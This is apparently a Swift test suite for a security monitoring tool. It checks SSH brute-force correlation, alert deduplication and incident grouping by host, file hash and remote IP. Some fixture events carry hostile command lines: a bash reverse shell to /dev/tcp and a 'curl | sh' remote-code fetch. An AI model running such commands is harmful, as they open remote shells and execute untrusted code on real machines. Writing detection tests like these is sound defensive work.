import Foundation
import Testing
import VigilTestSupport
import VigilTooling
import VigilDetection
import VigilIngest
import VigilModel
import VigilPipeline
import VigilStore

/// sshd failures from one address, `interval` seconds apart, starting Mar 3 10:00:00.
func sshFailures(count: Int, interval: Int, from address: String = "203.0.113.5", startSecond: Int = 0) -> String {
    (0..<count).map { index in
        let total = startSecond + index * interval
        let clock = String(format: "%02d:%02d:%02d", 10 + total / 3600, total / 60 % 60, total % 60)
        return "Mar  3 \(clock) web-01 sshd[\(1000 + index)]: Failed password for root from \(address) port \(40000 + index) ssh2"
    }.joined(separator: "\n") + "\n"
}

/// On both stores (`TestBackend.available`).
@Suite(.runsOn(.busy)) struct CorrelationPipelineTests {
    func importSyslog(_ texts: [String], on backend: TestBackend) throws -> (TestStore, [ImportSummary]) {
        let workspace = TemporaryDirectory()
        let store = try TestStore(backend, in: workspace)
        var summaries: [ImportSummary] = []
        for (index, text) in texts.enumerated() {
            // A new pipeline per file, as separate `vigil import` runs are.
            let path = try workspace.write("auth\(index).log", text)
            summaries.append(try store.pipeline(ruleSet: .builtin()).importFiles([path], format: .fixed(.syslog), integration: "syslog", actor: "test"))
        }
        return (store, summaries)
    }

    @Test(arguments: TestBackend.available) func bruteForceRaisesExactlyOneCorrelationAlert(on backend: TestBackend) throws {
        let (imported, _) = try importSyslog([sshFailures(count: 30, interval: 5)], on: backend)
        let alerts = try imported.store.alerts(AlertFilter())
        #expect(alerts.map(\.title) == ["SSH brute force from one address"])
        #expect(alerts.first?.eventCount ?? 0 >= 10)
        #expect(alerts.first?.matchedFields.contains("\"SourceIp\":\"203.0.113.5\"") == true)
    }

    @Test(arguments: TestBackend.available) func theSameFailuresSpreadWiderThanFiveMinutesRaiseNone(on backend: TestBackend) throws {
        // 10 failures 34 s apart span 306 s: no 5-minute window holds 10 of them.
        let (imported, _) = try importSyslog([sshFailures(count: 10, interval: 34)], on: backend)
        #expect(try imported.store.alerts(AlertFilter()).isEmpty)
    }

    @Test(arguments: TestBackend.available) func aCorrelationSpansTwoImportedFiles(on backend: TestBackend) throws {
        let (imported, _) = try importSyslog([sshFailures(count: 6, interval: 5), sshFailures(count: 6, interval: 5, startSecond: 40)], on: backend)
        #expect(try imported.store.alerts(AlertFilter()).map(\.title) == ["SSH brute force from one address"])
    }

    @Test(arguments: TestBackend.available) func reimportingTheSameFailuresChangesNothing(on backend: TestBackend) throws {
        let text = sshFailures(count: 12, interval: 5)
        let (imported, summaries) = try importSyslog([text, text], on: backend)
        #expect(summaries[1].outcome.stored == 0)
        #expect(summaries[1].outcome.alertsRaised == 0)
        #expect(try imported.store.alerts(AlertFilter()).count == 1)
    }
}

/// On both stores (`TestBackend.available`).
@Suite(.runsOn(.busy)) struct IncidentAndDedupeTests {
    func importJSON(_ lines: [String], policy: IncidentPolicy = IncidentPolicy(), dedupe: Duration = .seconds(3600),
                    on backend: TestBackend) throws -> TestStore {
        let workspace = TemporaryDirectory()
        let store = try TestStore(backend, in: workspace)
        let path = try workspace.write("events.ndjson", lines.joined(separator: "\n"))
        _ = try store.pipeline(ruleSet: .builtin(), dedupeWindow: dedupe, incidentPolicy: policy)
            .importFiles([path], format: .fixed(.json), integration: "json", actor: "test")
        return store
    }

    func antivirus(_ host: String, _ time: String, signature: String = "Unix.Trojan.Mirai-1", extra: String = "") -> String {
        #"{"@timestamp":"\#(time)","hostname":"\#(host)","os_platform":"linux","logsource":{"category":"antivirus"},"Signature":"\#(signature)"\#(extra)}"#
    }

    @Test(arguments: TestBackend.available) func repeatsWithinTheDedupeWindowFoldAndOneAfterItOpensANewAlert(on backend: TestBackend) throws {
        let imported = try importJSON([
            antivirus("web-01", "2026-03-03T10:00:00Z"), antivirus("web-01", "2026-03-03T10:59:59Z"),
            antivirus("web-01", "2026-03-03T12:00:00Z"),
        ], on: backend)
        let alerts = try imported.store.alerts(AlertFilter(sort: .firstEvent))
        #expect(alerts.map(\.eventCount).sorted() == [1, 2])
    }

    @Test(arguments: TestBackend.available) func sameMachineWithin24HoursIsOneIncident(on backend: TestBackend) throws {
        let imported = try importJSON([
            antivirus("web-01", "2026-03-03T10:00:00Z"),
            #"{"@timestamp":"2026-03-03T18:00:00Z","hostname":"web-01","logsource":{"category":"process_creation"},"CommandLine":"bash -i >& /dev/tcp/1.2.3.4/80 0>&1"}"#,
            antivirus("web-01", "2026-03-06T10:00:00Z", signature: "Other.Thing"),
        ], on: backend)
        let incidents = try imported.store.incidents(status: nil, minimumSeverity: nil, limit: 100)
        #expect(incidents.map(\.alertCount).sorted() == [1, 2])
        let grouped = try #require(incidents.first { $0.alertCount == 2 })
        #expect(grouped.reason.contains("same machine web-01 within 24h"))
        #expect(grouped.severity == .high)
    }

    /// A file hash, as an antivirus event's `extra`.
    static let sharedHash = #","sha256":"aaaabbbbccccddddeeeeffff0000111122223333444455556666777788889999""#

    /// Imports `lines` with a burst window too short for the same rule to join machines, so
    /// only a shared indicator can.
    func importJoiningByIndicator(_ lines: [String], on backend: TestBackend) throws -> TestStore {
        var policy = IncidentPolicy()
        policy.burstWindow = .seconds(1)
        return try importJSON(lines, policy: policy, on: backend)
    }

    @Test(arguments: TestBackend.available) func aSharedFileHashJoinsMachines(on backend: TestBackend) throws {
        let imported = try importJoiningByIndicator([
            antivirus("web-01", "2026-03-03T10:00:00Z", extra: Self.sharedHash),
            antivirus("db-01", "2026-03-03T15:00:00Z", signature: "Unix.Other", extra: Self.sharedHash),
        ], on: backend)
        let incidents = try imported.store.incidents(status: nil, minimumSeverity: nil, limit: 100)
        #expect(incidents.count == 1)
        #expect(incidents.first?.reason.contains("db-01 shares sha256 aaaabbbb") == true)
    }

    @Test(arguments: TestBackend.available) func aSharedRemoteAddressJoinsMachines(on backend: TestBackend) throws {
        let imported = try importJoiningByIndicator([
            #"{"@timestamp":"2026-03-03T10:00:00Z","hostname":"web-01","logsource":{"category":"process_creation"},"CommandLine":"bash -i >& /dev/tcp/1.2.3.4/80 0>&1","DestinationIp":"198.51.100.7"}"#,
            #"{"@timestamp":"2026-03-03T12:00:00Z","hostname":"db-01","logsource":{"category":"process_creation"},"CommandLine":"curl http://x | sh","DestinationIp":"198.51.100.7"}"#,
        ], on: backend)
        #expect(try imported.store.incidents(status: nil, minimumSeverity: nil, limit: 100).first?.reason.contains("shares ip 198.51.100.7") == true)
    }

    /// Two incidents carry the same hash, opened more than the indicator window apart; a third
    /// machine's alert between them could join either. It joins the later one on both stores:
    /// before, the stores took whichever row their query plan met first (SQLite the earlier
    /// incident, PostgreSQL whichever its statistics of the moment led to).
    @Test(arguments: TestBackend.available) func anAlertSharingAnIndicatorWithTwoIncidentsJoinsTheLatest(on backend: TestBackend) throws {
        let imported = try importJoiningByIndicator([
            antivirus("web-01", "2026-03-03T10:00:00Z", extra: Self.sharedHash),
            antivirus("db-01", "2026-03-04T10:00:01Z", signature: "Unix.Other", extra: Self.sharedHash),
            antivirus("app-01", "2026-03-04T10:00:00Z", signature: "Unix.Third", extra: Self.sharedHash),
        ], on: backend)
        let incidents = try imported.store.incidents(status: nil, minimumSeverity: nil, limit: 100)
        #expect(incidents.map(\.alertCount).sorted() == [1, 2])
        let joined = try #require(incidents.first { $0.alertCount == 2 })
        #expect(joined.machines.sorted() == ["app-01", "db-01"])
        #expect(joined.reason.contains("app-01 shares sha256 aaaabbbb") && joined.reason.contains("with db-01"), "\(joined.reason)")
    }

    @Test(arguments: TestBackend.available) func theSameRuleInABurstJoinsMachines(on backend: TestBackend) throws {
        let imported = try importJSON([antivirus("web-01", "2026-03-03T10:00:00Z"), antivirus("db-01", "2026-03-03T10:20:00Z")], on: backend)
        let incidents = try imported.store.incidents(status: nil, minimumSeverity: nil, limit: 100)
        #expect(incidents.count == 1)
        #expect(incidents.first?.reason.contains("fired on db-01 and web-01 within 1h") == true)
    }

    @Test(arguments: TestBackend.available) func incidentStatusFollowsItsAlertsUntilSetByHand(on backend: TestBackend) throws {
        let imported = try importJSON([antivirus("web-01", "2026-03-03T10:00:00Z"), antivirus("web-01", "2026-03-03T10:00:01Z", signature: "Other")],
                                      on: backend)
        let store = imported.store
        let ids = try store.alerts(AlertFilter()).map(\.id)
        try store.updateAlerts(ids: [ids[0]], AlertUpdate(status: "in_progress"), actor: "t")
        #expect(try store.incidents(status: nil, minimumSeverity: nil, limit: 100).first?.status == "in_progress")
        try store.updateAlerts(ids: ids, AlertUpdate(status: "resolved", classification: "true_positive", comment: "cleaned"), actor: "t")
        #expect(try store.incidents(status: nil, minimumSeverity: nil, limit: 100).first?.status == "resolved")
        let incident = try #require(try store.incidents(status: nil, minimumSeverity: nil, limit: 100).first)
        try store.updateIncident(id: incident.id, status: "in_progress", assignedTo: "carol", classification: nil, comment: nil, actor: "t")
        try store.updateAlerts(ids: ids, AlertUpdate(status: "new"), actor: "t")
        #expect(try store.incident(id: incident.id)?.status == "in_progress")
        #expect(try store.history(of: "alert:\(ids[0])").count == 3)
        #expect(try store.comments(alertID: ids[0], incidentID: nil).map(\.text) == ["cleaned"])
        #expect(throws: StoreError.self) { try store.updateAlerts(ids: ids, AlertUpdate(status: "done"), actor: "t") }
    }
}
